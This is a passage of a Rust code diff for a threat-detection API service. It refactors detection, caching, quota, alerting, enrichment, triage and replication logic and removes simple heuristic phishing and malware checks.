+            syslog: self.syslog.as_ref().map(SyslogExporter::stats),
+            enrichment: self.enrichments.enabled().then(|| self.enrichments.stats()),
+            ruleset_agreement: self.candidate_pipelines.read().unwrap().is_some().then(|| stats.agreement.clone()),
+            batch_fairness: self.batch_scheduler.enabled().then(|| self.batch_scheduler.stats()),
+            batch_jobs: self.batch_jobs.enabled().then(|| self.batch_jobs.stats()),
+            triage: self.triage.enabled().then(|| self.triage.stats()),
+        }
+    }
     
-    // Check cache
-    {
-        let cache = state.cache.lock().unwrap();
-        if let Some(cached) = cache.peek(&hash_key) {
-            info!("Cache hit for: {}", &req.threat_type);
-            let mut stats = state.stats.lock().unwrap();
-            stats.cache_hits += 1;
-            
-            let mut response = cached.response.clone();
-            response.cached = true;
-            response.latency_ms = start.elapsed().as_millis() as u64;
-            
-            return Ok(HttpResponse::Ok().json(response));
+    /// Cumulative counters for `stat_alerts` evaluation, taken at `at`
+    fn sample(&self, at: std::time::Instant) -> Sample {
+        let stats = self.lock_stats();
+        let p99_latency_ms = (!stats.latencies.is_empty()).then(|| percentiles(&stats.latencies).p99 as f64);
+        Sample {
+            at,
+            detections: stats.total_detections,
+            threats: stats.threats_detected,
+            cache_hits: stats.cache_hits,
+            by_type: stats.by_type.clone(),
+            p99_latency_ms,
         }
     }
     
-    // Perform detection based on threat type
-    let result = match req.threat_type.as_str() {
-        "url" => detect_phishing(&req.content, req.context.as_deref()),
-        "code" => detect_malware(&req.content),
-        "action" => detect_behavior(&req.content),
-        _ => {
-            warn!("Unknown threat type: {}", req.threat_type);
-            ThreatDetectionResponse {
-                is_threat: false,
-                threat_type: "unknown".to_string(),
-                confidence: 0.0,
-                severity: "unknown".to_string(),
-                reasons: vec!["Unknown threat type".to_string()],
-                latency_ms: start.elapsed().as_millis() as u64,
-                cached: false,
+    /// Raise an alert for a threat verdict, leaving out rules in cooldown
+    fn alert(&self, http_req: &HttpRequest, req: &ThreatDetectionRequest, result: &ThreatDetectionResponse) {
+        if !result.is_threat {
+            return;
+        }
+        let response_policy = self.response_policy(http_req).map_or(policy::PASS_THROUGH.to_string(), |(name, _)| name);
+        // Honeytoken use is always reported, outside the rule cooldown
+        if let Some(id) = &result.honeytoken_id {
+            self.audit.record("honeytoken.triggered", &actor(http_req), serde_json::json!({
+                "token_id": id,
+                "threat_type": result.threat_type,
+                "content_hash": hash_string(&req.content),
+                "response_policy": response_policy,
+            }));
+        }
+        let content_hash = hash_string(&req.content);
+        let rules = self.alerts.admit(&content_hash, &result.reasons);
+        if rules.is_empty() {
+            return;
+        }
+        self.audit.record("detection.alert", &actor(http_req), serde_json::json!({
+            "threat_type": result.threat_type,
+            "severity": result.severity,
+            "confidence": result.confidence,
+            "content_hash": content_hash,
+            "rules": rules,
+            "response_policy": response_policy,
+        }));
+    }
+    
+    /// Send a served verdict to the syslog collector, if one is configured
+    fn log_decision(&self, http_req: &HttpRequest, req: &ThreatDetectionRequest, result: &ThreatDetectionResponse) {
+        if let Some(syslog) = &self.syslog {
+            syslog.record(tenant_id(http_req).as_deref(), req, result, &hash_string(&req.content));
+        }
+    }
+    
+    /// Charge `n` detections to the caller's daily quota: its usage after,
+    /// `None` without a quota, or why they were refused. The quota is that
+    /// of the tenant the caller's API key belongs to; the tenant header is
+    /// the client's to set, so it plays no part.
+    fn charge_quota(&self, http_req: &HttpRequest, n: u64) -> std::result::Result<Option<Usage>, Refusal> {
+        let limit = self
+            .api_keys
+            .key_id(http_req.headers())
+            .and_then(|id| self.tenants.read().unwrap().values().find(|t| t.settings.key_ids.contains(&id))?.settings.daily_quota)
+            .unwrap_or(self.settings.daily_quota);
+        if limit == 0 {
+            return Ok(None);
+        }
+        self.quotas.charge(&self.caller_key(http_req), limit, n).map(Some)
+    }
+    
+    /// Who rates and quotas count a request against: the API key it
+    /// presented, or else its client's address as `actor` finds it, which
+    /// only a trusted proxy's forwarding header can change
+    fn caller_key(&self, http_req: &HttpRequest) -> String {
+        match self.api_keys.key_id(http_req.headers()) {
+            Some(id) => format!("key:{}", id),
+            None => format!("client:{}", actor(http_req)),
+        }
+    }
+    
+    /// Charge the rate limit for the items of a request holding `items`
+    /// past the first, which `ratelimit::throttle` took before the body was
+    /// read; when they do not fit, that first one is given back too
+    fn charge_rate_items(&self, http_req: &HttpRequest, items: usize) -> std::result::Result<(), Duration> {
+        let caller = self.caller_key(http_req);
+        self.rate_limiter.charge(&caller, (items as u32).saturating_sub(1)).inspect_err(|_| self.rate_limiter.refund(&caller, 1))
+    }
+    
+    /// Give back detections charged for a request that was not served
+    fn refund_quota(&self, http_req: &HttpRequest, n: u64) {
+        self.quotas.refund(&self.caller_key(http_req), n);
+    }
+    
+    /// Name and policy limiting the detail shown to the caller, if any
+    fn response_policy(&self, http_req: &HttpRequest) -> Option<(String, &ResponsePolicy)> {
+        let tenant_policy = tenant_id(http_req)
+            .and_then(|id| self.tenants.read().unwrap().get(&id)?.settings.response_policy.clone());
+        let name = tenant_policy.or_else(|| self.settings.default_response_policy.clone())?;
+        let policy = self.settings.response_policies.get(&name)?;
+        Some((name, policy))
+    }
+    
+    /// Apply the caller's response policy to a verdict about to be sent,
+    /// re-signing it so the signature covers the reasons the caller sees
+    fn present(&self, http_req: &HttpRequest, response: &mut ThreatDetectionResponse) {
+        let Some((_, policy)) = self.response_policy(http_req) else { return };
+        if policy.apply(response) && response.signature.is_some() {
+            self.sign(response);
+        }
+    }
+    
+    /// 200 with a presented detection response, in its threat type's
+    /// response template if it has one
+    fn detection_ok(&self, threat_type: &str, response: &ThreatDetectionResponse) -> HttpResponse {
+        match self.settings.response_templates.get(threat_type) {
+            Some(template) => HttpResponse::Ok().json(template.apply(response)),
+            None => HttpResponse::Ok().json(response),
+        }
+    }
+    
+    /// `present` for a streamed response, including its URL hints and keywords
+    fn present_partial(&self, http_req: &HttpRequest, response: &mut PartialDetectionResponse) {
+        self.present(http_req, &mut response.verdict);
+        let Some((_, policy)) = self.response_policy(http_req).filter(|(_, p)| p.rewrites()) else { return };
+        let url_type = self.detectors.get("url").map_or("unknown", |d| d.response_type());
+        for hint in &mut response.url_hints {
+            hint.reasons = policy.reasons(url_type, hint.verdict, std::mem::take(&mut hint.reasons));
+        }
+        response.keywords.clear();
+    }
+    
+    /// URL to run enrichment lookups on, when the request asks for them and
+    /// the verdict is one they could still change
+    fn enrichment_target(
+        &self,
+        http_req: &HttpRequest,
+        req: &ThreatDetectionRequest,
+        response: &ThreatDetectionResponse,
+    ) -> Option<url::Url> {
+        if req.enrich == enrichment::Mode::None || !self.enrichments.enabled() {
+            return None;
+        }
+        if response.enriched || response.degraded || response.timed_out || response.honeytoken_id.is_some() {
+            return None;
+        }
+        let target = Enrichments::target(req)?;
+        let host = target.host_str()?.to_string();
+        let tenants = self.tenants.read().unwrap();
+        let lists = EffectiveLists {
+            global: &self.settings.lists,
+            tenant: tenant_id(http_req).and_then(|id| tenants.get(&id)).map(|t| &t.lists),
+            tenant_allowlist_wins: self.settings.tenant_allowlist_wins,
+        };
+        // Listed hosts already have a definitive verdict
+        lists.check_host(&host).is_none().then_some(target)
+    }
+    
+    /// Fold enrichment findings into a verdict; a threat is never downgraded
+    fn merge_enrichment(&self, response: &mut ThreatDetectionResponse, threat_type: &str, report: enrichment::Report) {
+        response.enriched = true;
+        response.redirect_chain = report.redirect_chain.map(Box::new);
+        let findings = report.findings;
+        if findings.is_empty() {
+            return;
+        }
+        response.confidence = (response.confidence + findings.iter().map(|f| f.weight).sum::<f32>()).min(1.0);
+        response.reasons.extend(findings.iter().map(|f| f.reason.clone()));
+        
+        let thresholds = self.thresholds.read().unwrap();
+        let pipelines = self.pipelines.read().unwrap().clone();
+        let ctx = self.detection_context(None, None, &thresholds, None, &pipelines);
+        let (is_threat, severity) = ctx.severity_for(threat_type, response.confidence);
+        let rank = |severity: &str| thresholds::SEVERITIES.iter().position(|s| *s == severity);
+        if !response.is_threat || rank(&severity) > rank(&response.severity) {
+            response.severity = severity;
+        }
+        response.is_threat |= is_threat;
+        response.verdict = match response.is_threat {
+            true => Verdict::Threat,
+            false => ctx.thresholds_for(threat_type).verdict(response.confidence),
+        };
+    }
+    
+    /// Replace a cached heuristic verdict with its enriched one, so later
+    /// requests for the same content get it without another lookup
+    fn cache_enriched(&self, cache_key: &str, response: &ThreatDetectionResponse) {
+        let cached = response.verdict_only();
+        if let Some(entry) = self.lock_cache().peek_mut(cache_key) {
+            entry.replace(cached.clone(), &self.settings);
+            self.replication.publish(|| Message::CachePut(Box::new(replication::CacheEntry {
+                key: cache_key.to_string(),
+                response: cached,
+                request_type: entry.request_type().to_string(),
+                ruleset_version: entry.ruleset_version().to_string(),
+                rules_generation: entry.rules_generation(),
+                indicator: entry.indicator().cloned(),
+                created_at: entry.created_at(),
+            })));
+        }
+    }
+    
+    /// Compute a verdict, counting it towards its indicator's recurrence
+    fn run_detection(
+        &self,
+        actor: &str,
+        req: &ThreatDetectionRequest,
+        ctx: &DetectionContext,
+    ) -> ThreatDetectionResponse {
+        let result = self.run_audited_detection(actor, req, ctx);
+        if !result.is_threat && !result.timed_out && result.confidence >= self.settings.recurrence_min_confidence {
+            let Some(indicator) = self.indicator(req) else { return result };
+            if let Some(escalation) = self.recurrence.observe(indicator, hash_string(&req.content), &self.settings) {
+                warn!("Escalated indicator {:?} until {}: {}", escalation.indicator, escalation.expires_at, escalation.reason());
+                // Verdicts cached before the escalation would not carry it
+                cache::evict_indicator(&mut self.lock_cache(), &escalation.indicator);
+                self.audit.record("indicator.escalated", "system", serde_json::json!(escalation));
+                self.replication.publish(|| Message::Escalated(Box::new(escalation)));
             }
         }
-    };
+        result
+    }
     
-    // Update statistics
-    {
-        let mut stats = state.stats.lock().unwrap();
-        stats.total_detections += 1;
+    /// Indicator a request's sightings count against, when recurrence is on
+    fn indicator(&self, req: &ThreatDetectionRequest) -> Option<Indicator> {
+        if self.settings.recurrence_threshold == 0 {
+            return None;
+        }
+        let host = (req.threat_type == "url")
+            .then(|| url::Url::parse(&req.content).ok()?.host_str().map(str::to_string))
+            .flatten();
+        Some(Indicator::of(&req.content, host.as_deref()))
+    }
+    
+    /// Compute a verdict, auditing how each stage contributed to it when
+    /// `audit_contributions` is on and the verdict is a threat
+    fn run_audited_detection(
+        &self,
+        actor: &str,
+        req: &ThreatDetectionRequest,
+        ctx: &DetectionContext,
+    ) -> ThreatDetectionResponse {
+        if !self.settings.audit_contributions {
+            return run_detection(req, ctx);
+        }
+        // The breakdown comes from the explain trace, which the client may not have asked for
+        let mut result = if req.explain {
+            run_detection(req, ctx)
+        } else {
+            run_detection(&ThreatDetectionRequest { explain: true, ..req.clone() }, ctx)
+        };
         if result.is_threat {
-            stats.threats_detected += 1;
+            let stages: Vec<_> = result.trace.iter().map(|t| serde_json::json!({
+                "stage": t.stage,
+                "outcome": t.outcome,
+                "contribution": t.score_out - t.score_in,
+            })).collect();
+            self.audit.record("detection.contributions", actor, serde_json::json!({
+                "threat_type": result.threat_type,
+                "severity": result.severity,
+                "confidence": result.confidence,
+                "content_hash": hash_string(&req.content),
+                "reasons": result.reasons,
+                "stages": stages,
+            }));
         }
-        stats.latencies.push(result.latency_ms);
-        
-        // Keep only last 1000 latencies for performance
-        if stats.latencies.len() > 1000 {
-            stats.latencies.remove(0);
+        if !req.explain {
+            result.trace.clear();
         }
+        result
     }
     
-    // Cache result
-    {
-        let mut cache = state.cache.lock().unwrap();
-        cache.put(hash_key, CachedResult { response: result.clone() });
+    /// Record a served verdict under its tenant and content fingerprint and
+    /// attach the verdicts seen before it; threats are also counted for
+    /// `/api/stats/top`
+    fn link_fingerprint(&self, http_req: &HttpRequest, req: &ThreatDetectionRequest, response: &mut ThreatDetectionResponse) {
+        if response.is_threat {
+            self.top_threats.record(&hash_string(&req.content), &req.threat_type);
+        }
+        let Some(index) = &self.fingerprints else { return };
+        let fingerprint = fingerprints::fingerprint(&req.content);
+        let tenant = tenant_id(http_req).unwrap_or_default();
+        // History writes pause under memory pressure; earlier sightings are still shown
+        if self.pressure.level() >= Level::Soft {
+            response.previously_seen = index.history(&tenant, &fingerprint).map(|detections| {
+                Box::new(PreviouslySeen { fingerprint, detections })
+            });
+            return;
+        }
+        let detection_id = response
+            .signature
+            .as_ref()
+            .map_or_else(fingerprints::detection_id, |s| s.detection_id.clone());
+        let sighting = Sighting {
+            detection_id: detection_id.clone(),
+            threat_type: req.threat_type.clone(),
+            verdict: response.verdict,
+            confidence: response.confidence,
+            seen_at: self.clock.utc(),
+        };
+        response.previously_seen = index.record(&tenant, &fingerprint, sighting).map(Box::new);
+        response.detection_id = Some(detection_id);
     }
     
-    Ok(HttpResponse::Ok().json(result))
-}
-
-/// Batch detection endpoint
-async fn detect_batch(
-    req: web::Json<BatchDetectionRequest>,
-    state: web::Data<AppState>,
-) -> Result<HttpResponse> {
-    let start = std::time::Instant::now();
+    /// Add a verdict to the session its context names, reporting the
+    /// session's accumulated risk on it
+    fn track_session(&self, http_req: &HttpRequest, req: &ThreatDetectionRequest, response: &mut ThreatDetectionResponse) {
+        let Some(sessions) = &self.sessions else { return };
+        let Some(session_id) = req.context.as_deref().and_then(session::session_id) else { return };
+        let tenant = tenant_id(http_req).unwrap_or_default();
+        let mut risk = sessions.observe(&tenant, session_id, hash_string(&req.content), response.confidence);
+        if let Some(update) = self.replication.publishing().then(|| sessions.state(&tenant, session_id)).flatten() {
+            self.replication.publish(|| Message::SessionUpdate(Box::new(update)));
+        }
+        if let Some(thresholds) = self.thresholds.read().unwrap().get(&req.threat_type) {
+            risk.severity = thresholds.severity(risk.risk).to_string();
+        }
+        response.session_risk = Some(Box::new(risk));
+    }
     
-    // Process detections in parallel
-    let results: Vec<ThreatDetectionResponse> = req.threats
-        .iter()
-        .map(|threat| {
-            match threat.threat_type.as_str() {
-                "url" => detect_phishing(&threat.content, threat.context.as_deref()),
-                "code" => detect_malware(&threat.content),
-                "action" => detect_behavior(&threat.content),
-                _ => ThreatDetectionResponse {
-                    is_threat: false,
-                    threat_type: "unknown".to_string(),
-                    confidence: 0.0,
-                    severity: "unknown".to_string(),
-                    reasons: vec!["Unknown threat type".to_string()],
-                    latency_ms: 0,
-                    cached: false,
-                }
+    /// Change one of a tenant's lists, persisting it to the tenant's list
+    /// file first; the tenant's cached verdicts are retired
+    fn update_tenant_list(
+        &self,
+        tenant_id: &str,
+        list_name: &str,
+        edit: impl FnOnce(&mut Vec<String>),
+    ) -> std::result::Result<DetectionLists, ListUpdateError> {
+        let mut tenants = self.tenants.write().unwrap();
+        let tenant = tenants.get_mut(&tenant_id.to_lowercase()).ok_or(ListUpdateError::UnknownTenant)?;
+        let list = tenant.lists.list_mut(list_name).ok_or(ListUpdateError::UnknownList)?;
+        let mut entries = list.clone();
+        edit(&mut entries);
+        
+        if let Some(file) = tenant.settings.file_for(list_name) {
+            if let Err(e) = lists::save_list_file(file, &entries) {
+                warn!("Failed to persist {} for tenant {}: {}", list_name, tenant_id, e);
+                return Err(ListUpdateError::Persist);
+            }
+        }
+        
+        *list = entries;
+        tenant.generation += 1;
+        info!("Tenant {} updated {} (generation {})", tenant_id, list_name, tenant.generation);
+        let lists = tenant.lists.clone();
+        drop(tenants);
+        self.refresh_engine_state();
+        Ok(lists)
+    }
+    
+    /// Queue a verdict for human review when the engine could not call it:
+    /// confidence in the triage band, or a `url` that does not parse and
+    /// was not found to be a threat anyway
+    fn offer_triage(
+        &self,
+        http_req: &HttpRequest,
+        req: &ThreatDetectionRequest,
+        response: &mut ThreatDetectionResponse,
+        cache_key: Option<&str>,
+    ) {
+        if !self.triage.enabled() || response.timed_out || response.honeytoken_id.is_some() {
+            return;
+        }
+        let reason = if req.threat_type == "url" && url::Url::parse(req.content.trim()).is_err() {
+            if response.is_threat {
+                return;
+            }
+            triage::Reason::ParseFailure
+        } else {
+            let in_band = match self.settings.triage_bands.get(&req.threat_type) {
+                Some(band) => band.contains(response.confidence),
+                None => response.verdict == Verdict::NeedsReview,
+            };
+            if !in_band {
+                return;
             }
+            triage::Reason::GrayBand
+        };
+        response.triage = self.triage.offer(tenant_id(http_req).as_deref(), req, response, reason, cache_key);
+    }
+    
+    /// Update watched indicators matching a served verdict
+    fn observe_watched(&self, http_req: &HttpRequest, req: &ThreatDetectionRequest, response: &ThreatDetectionResponse) {
+        if self.watches.enabled() {
+            self.watches.observe(tenant_id(http_req).as_deref(), req, response);
+        }
+    }
+    
+    /// Verdict for a watched domain or URL under its tenant's lists; nothing
+    /// is cached, signed, alerted or recorded
+    fn evaluate_watched(&self, tenant: Option<&str>, indicator: &watch::Indicator) -> Option<ThreatDetectionResponse> {
+        let req = ThreatDetectionRequest {
+            threat_type: "url".to_string(),
+            content: indicator.detection_content()?,
+            context: None,
+            explain: false,
+            enrich: enrichment::Mode::None,
+        };
+        let tenants = self.tenants.read().unwrap();
+        let thresholds = self.thresholds.read().unwrap();
+        let url_blocklist = self.url_blocklist(&[]);
+        let pipelines = self.pipelines.read().unwrap().clone();
+        let ctx = self.detection_context(tenant, tenant.and_then(|id| tenants.get(id)), &thresholds, url_blocklist.as_deref(), &pipelines);
+        Some(run_detection(&req, &ctx))
+    }
+    
+    /// Run the warmup canaries under the global configuration, without a
+    /// tenant; the locks are taken per canary so rule updates are not held
+    /// up for the whole warmup
+    fn warm_up(&self) -> warmup::Status {
+        self.warmup.run(&self.settings, |req| {
+            let thresholds = self.thresholds.read().unwrap();
+            let url_blocklist = self.url_blocklist(&[]);
+            let pipelines = self.pipelines.read().unwrap().clone();
+            let ctx = self.detection_context(None, None, &thresholds, url_blocklist.as_deref(), &pipelines);
+            run_detection(req, &ctx)
         })
-        .collect();
+    }
     
-    let response = BatchDetectionResponse {
-        results,
-        total_latency_ms: start.elapsed().as_millis() as u64,
-    };
+    /// Conformance vectors for the current rules, generated on first use
+    /// after any change
+    fn test_vectors(&self) -> Arc<VectorSet> {
+        let generation = self.rules_generation.load(Ordering::SeqCst);
+        let mut current = self.test_vectors.lock().unwrap();
+        if let Some(set) = current.as_ref().filter(|s| s.is_current(RESPONSE_SCHEMA_VERSION, generation)) {
+            return set.clone();
+        }
+        let thresholds = self.thresholds.read().unwrap();
+        let url_blocklist = self.url_blocklist(&[]);
+        let pipelines = self.pipelines.read().unwrap().clone();
+        let ctx = self.detection_context(None, None, &thresholds, url_blocklist.as_deref(), &pipelines);
+        let set = Arc::new(testvectors::generate(
+            &self.settings,
+            |req| run_detection(req, &ctx),
+            RESPONSE_SCHEMA_VERSION,
+            generation,
+            self.clock.utc(),
+        ));
+        *current = Some(set.clone());
+        set
+    }
     
-    Ok(HttpResponse::Ok().json(response))
-}
-
-/// Health check endpoint
-async fn health(state: web::Data<AppState>) -> Result<HttpResponse> {
-    let cache = state.cache.lock().unwrap();
-    let stats = state.stats.lock().unwrap();
+    /// Current engine state, recomputed if the rules changed since; one
+    /// caller recomputes it while the others wait for the result
+    fn engine_state(&self) -> Arc<Manifest> {
+        if let Some(manifest) = self.current_engine_state() {
+            return manifest;
+        }
+        let _refreshing = self.engine_state_refresh.lock().unwrap();
+        if let Some(manifest) = self.current_engine_state() {
+            return manifest;
+        }
+        self.compute_engine_state()
+    }
     
-    Ok(HttpResponse::Ok().json(HealthStatus {
-        status: "healthy".to_string(),
-        version: "1.0.0".to_string(),
-        timestamp: chrono::Local::now().to_rfc3339(),
-    }))
-}
-
-/// Statistics endpoint
-async fn get_statistics(state: web::Data<AppState>) -> Result<HttpResponse> {
-    let cache = state.cache.lock().unwrap();
-    let stats = state.stats.lock().unwrap();
-    
-    Ok(HttpResponse::Ok().json(Statistics {
-        total_detections: stats.total_detections,
-        threats_detected: stats.threats_detected,
-        cache_hits: stats.cache_hits,
-        cache_size: cache.len(),
-        avg_latency_ms: stats.avg_latency(),
-    }))
-}
-
-// Detection implementations
-fn detect_phishing(url: &str, context: Option<&str>) -> ThreatDetectionResponse {
-    let mut confidence = 0.0f32;
-    let mut reasons = Vec::new();
+    /// Engine state computed for the current rules generation, if any
+    fn current_engine_state(&self) -> Option<Arc<Manifest>> {
+        let generation = self.rules_generation.load(Ordering::SeqCst);
+        self.engine_state.lock().unwrap().as_ref().filter(|(g, _)| *g == generation).map(|(_, manifest)| manifest.clone())
+    }
     
-    // Check URL length
-    if url.len() > 200 {
-        confidence += 0.3;
-        reasons.push("Unusually long URL".to_string());
+    /// Recompute the engine state hash after a change. Must not be called
+    /// while holding any of the locks it reads.
+    fn refresh_engine_state(&self) -> Arc<Manifest> {
+        let _refreshing = self.engine_state_refresh.lock().unwrap();
+        self.compute_engine_state()
     }
     
-    // Check for suspicious patterns
-    if url.contains("paypa") || url.contains("amaz0n") || url.contains("go0gle") {
-        confidence += 0.4;
-        reasons.push("Suspicious domain pattern".to_string());
+    fn compute_engine_state(&self) -> Arc<Manifest> {
+        let generation = self.rules_generation.load(Ordering::SeqCst);
+        let manifest = self.engine_states.insert(self.snapshot());
+        let mut current = self.engine_state.lock().unwrap();
+        if current.as_ref().is_none_or(|(_, m)| m.engine_state_hash != manifest.engine_state_hash) {
+            info!("Engine state {} (rules generation {})", manifest.engine_state_hash, generation);
+            self.audit.set_engine_state(&manifest.engine_state_hash);
+            self.watches.request_reevaluation();
+        }
+        *current = Some((generation, manifest.clone()));
+        manifest
     }
     
-    // Check for IP address
-    if url.contains("http://") && url[7..].starts_with(|c: char| c.is_numeric()) {
-        confidence += 0.3;
-        reasons.push("Using IP address instead of domain".to_string());
+    /// Retire cached verdicts after an admin change and hash the new state
+    fn rules_changed(&self) -> u64 {
+        let generation = self.rules_generation.fetch_add(1, Ordering::SeqCst) + 1;
+        self.refresh_engine_state();
+        generation
     }
     
-    // Check context
-    if let Some(ctx) = context {
-        if ctx.contains("verify") || ctx.contains("confirm") {
-            confidence += 0.2;
-            reasons.push("Context contains phishing keywords".to_string());
+    /// What this instance supports, from its registered detectors, active
+    /// pipelines and settings
+    fn capabilities(&self) -> capabilities::Capabilities {
+        use capabilities::{Auth, Capabilities, Enrichment, Flag, Header, Limits, Signing, ThreatType};
+        let pipelines = self.pipelines.read().unwrap().clone();
+        let threat_types = self
+            .detectors
+            .threat_types()
+            .into_iter()
+            .filter_map(|threat_type| {
+                let detector = self.detectors.get(threat_type)?;
+                let stages = pipelines.get(threat_type).map_or(Vec::new(), |stages| stages.iter().map(|s| s.stage.clone()).collect());
+                let fallback = self.settings.fallback_chains.get(threat_type).cloned().unwrap_or_default();
+                Some(ThreatType::new(threat_type, detector.response_type(), stages, fallback))
+            })
+            .collect();
+        let mut headers = vec![
+            Header { name: "X-Tenant-Id", purpose: "tenant overlay whose lists and policies apply" },
+            Header { name: "Idempotency-Key", purpose: "replay the stored response to a retried detection" },
+        ];
+        if self.settings.max_request_timeout_ms > 0 {
+            headers.push(Header { name: "X-Timeout-Ms", purpose: "detection deadline; stages not started by then are skipped" });
+        }
+        let mut features = Vec::new();
+        if self.url_blocklist.read().unwrap().is_some() {
+            features.push("url_blocklist");
+        }
+        if self.triage.enabled() {
+            features.push("triage");
+        }
+        if self.watches.enabled() {
+            features.push("watch");
+        }
+        if self.fingerprints.is_some() {
+            features.push("fingerprint_history");
+        }
+        if self.sessions.is_some() {
+            features.push("session_risk");
+        }
+        Capabilities {
+            api_version: env!("CARGO_PKG_VERSION"),
+            response_schema_version: RESPONSE_SCHEMA_VERSION,
+            ruleset_version: self.ruleset_version.read().unwrap().clone(),
+            threat_types,
+            strict_request_fields: self.settings.strict_request_fields,
+            request_flags: vec![
+                Flag { name: "explain", kind: "boolean", values: None, batch: true },
+                Flag { name: "enrich", kind: "enum", values: Some(enrichment::MODES), batch: false },
+            ],
+            headers,
+            limits: Limits {
+                max_content_bytes: (self.settings.max_content_bytes > 0).then_some(self.settings.max_content_bytes),
+                max_context_bytes: self.settings.max_context_bytes,
+                max_batch_items: None,
+                max_batch_jobs: (self.settings.max_batch_jobs > 0).then_some(self.settings.max_batch_jobs),
+                max_request_timeout_ms: (self.settings.max_request_timeout_ms > 0).then_some(self.settings.max_request_timeout_ms),
+                daily_quota: (self.settings.daily_quota > 0).then_some(self.settings.daily_quota),
+                rate_limit: self.rate_limiter.enabled().then_some(capabilities::RateLimit {
+                    per_sec: self.settings.rate_limit_per_sec,
+                    burst: self.settings.rate_limit_burst,
+                }),
+                qr_max_image_bytes: self.settings.qr_max_image_bytes,
+                qr_max_pixels: self.settings.qr_max_pixels,
+                raw_content_types: RAW_CONTENT_TYPES,
+            },
+            auth: Auth {
+                modes: match self.api_keys.enabled() {
+                    true => vec!["bearer", "x-api-key"],
+                    false => vec!["none"],
+                },
+                tenant_header: "X-Tenant-Id",
+                tenants: self.tenants.read().unwrap().len(),
+            },
+            enrichment: Enrichment {
+                enabled: self.enrichments.enabled(),
+                modes: enrichment::MODES,
+                lookups: self.enrichments.lookups(),
+                timeout_ms: self.settings.enrichment_timeout_ms,
+            },
+            signing: self.signer.as_ref().map(|signer| Signing { key_id: signer.key_id().to_string(), algorithm: signing::ALGORITHM }),
+            features,
         }
     }
     
-    let is_threat = confidence >= 0.7;
-    let severity = if confidence >= 0.85 {
-        "critical"
-    } else if confidence >= 0.65 {
-        "high"
-    } else if confidence >= 0.45 {
-        "medium"
-    } else {
-        "low"
-    };
-    
-    ThreatDetectionResponse {
-        is_threat,
-        threat_type: "phishing".to_string(),
-        confidence: confidence.min(1.0),
-        severity: severity.to_string(),
-        reasons: if reasons.is_empty() { 
-            vec!["URL appears legitimate".to_string()] 
-        } else { 
-            reasons 
-        },
-        latency_ms: 0,
-        cached: false,
+    /// Cache entries, sessions and escalations a standby starts from
+    fn replication_snapshot(&self) -> Vec<Message> {
+        let mut messages: Vec<Message> = self
+            .recurrence
+            .escalated()
+            .into_iter()
+            .map(|escalation| Message::Escalated(Box::new(escalation)))
+            .collect();
+        if let Some(sessions) = &self.sessions {
+            messages.extend(sessions.states().into_iter().map(|state| Message::SessionUpdate(Box::new(state))));
+        }
+        let cache = self.lock_cache();
+        // Least recently used first, so the standby's recency order matches
+        for (key, entry) in cache.iter().rev() {
+            let Some(response) = entry.response() else { continue };
+            messages.push(Message::CachePut(Box::new(replication::CacheEntry {
+                key: key.clone(),
+                response,
+                request_type: entry.request_type().to_string(),
+                ruleset_version: entry.ruleset_version().to_string(),
+                rules_generation: entry.rules_generation(),
+                indicator: entry.indicator().cloned(),
+                created_at: entry.created_at(),
+            })));
+        }
+        messages
+    }
+    
+    /// Apply one change from the primary; the later write wins
+    fn apply_replicated(&self, frame: replication::Frame) {
+        let generation = self.rules_generation.fetch_max(frame.rules_generation, Ordering::SeqCst).max(frame.rules_generation);
+        match frame.message {
+            Message::CachePut(entry) => {
+                let version = self.ruleset_version.read().unwrap().clone();
+                if entry.ruleset_version != version || entry.rules_generation < generation {
+                    self.replication.stale();
+                    return;
+                }
+                let cached = CachedResult::replicated(
+                    entry.response,
+                    &entry.request_type,
+                    &self.settings,
+                    &entry.ruleset_version,
+                    entry.rules_generation,
+                    entry.created_at,
+                    &*self.clock,
+                )
+                .with_indicator(entry.indicator);
+                self.lock_cache().put(entry.key, cached);
+            }
+            Message::CacheEvict { key } => {
+                self.lock_cache().pop(&key);
+            }
+            Message::SessionUpdate(state) => {
+                if let Some(sessions) = &self.sessions {
+                    sessions.adopt(*state);
+                }
+            }
+            Message::Escalated(escalation) => {
+                let indicator = escalation.indicator.clone();
+                if self.recurrence.adopt(*escalation) {
+                    cache::evict_indicator(&mut self.lock_cache(), &indicator);
+                }
+            }
+            Message::Heartbeat => {}
+        }
+    }
+    
+    /// Every artifact verdicts currently depend on, normalized
+    fn snapshot(&self) -> Manifest {
+        let mut builder = snapshot::Builder::default();
+        let mut settings = serde_json::to_value(&*self.settings).unwrap_or_default();
+        if let Some(fields) = settings.as_object_mut() {
+            // Covered by their own artifacts, in their runtime form
+            for key in ["ruleset_version", "thresholds", "pipelines", "candidate_pipelines", "lists", "tenants"] {
+                fields.remove(key);
+            }
+            // Deployment only, and different between the instances of a pair
+            for key in ["bind_addr", "api_keys_file", "tls_cert_file", "tls_key_file", "replication_role", "replication_peer", "replication_listen", "replication_queue_capacity"] {
+                fields.remove(key);
+            }
+        }
+        builder.json("settings", &settings);
+        builder.json("ruleset_version", &*self.ruleset_version.read().unwrap());
+        builder.json("thresholds", &*self.thresholds.read().unwrap());
+        builder.json("pipelines", &**self.pipelines.read().unwrap());
+        if let Some(candidate) = self.candidate_pipelines.read().unwrap().as_ref() {
+            builder.json("candidate_pipelines", &**candidate);
+        }
+        builder.json("lists/global", &snapshot::sorted_lists(&self.settings.lists));
+        for (id, tenant) in self.tenants.read().unwrap().iter() {
+            builder.json(format!("lists/tenant/{}", id), &snapshot::sorted_lists(&tenant.lists));
+        }
+        builder.json("rules/emergency", &*self.emergency.list());
+        builder.json("rules/escalated", &self.recurrence.escalated());
+        let mut honeytokens = self.honeytokens.list();
+        honeytokens.sort_by(|a, b| a.id.cmp(&b.id));
+        builder.json("honeytokens", &honeytokens);
+        if let Some(index) = self.url_blocklist.read().unwrap().as_ref() {
+            builder.digest("url_blocklist", index.file_bytes(), index.sha256().to_string());
+        }
+        // As loaded, not as the files stand now
+        let (bytes, sha256) = domain::digest();
+        builder.digest(format!("data/{}", domain::PSL_FILE_NAME), bytes, sha256);
+        if let Some((bytes, sha256)) = brand_assets::digest() {
+            builder.digest(format!("data/{}", brand_assets::ASSETS_FILE_NAME), bytes, sha256);
+        }
+        builder.finish(env!("CARGO_PKG_VERSION"), self.clock.utc())
     }
-}
-
-fn detect_malware(code: &str) -> ThreatDetectionResponse {
-    let mut confidence = 0.0f32;
-    let mut reasons = Vec::new();
     
-    // Check for suspicious functions
-    if code.contains("eval") || code.contains("exec") {
-        confidence += 0.3;
-        reasons.push("Suspicious function detected".to_string());
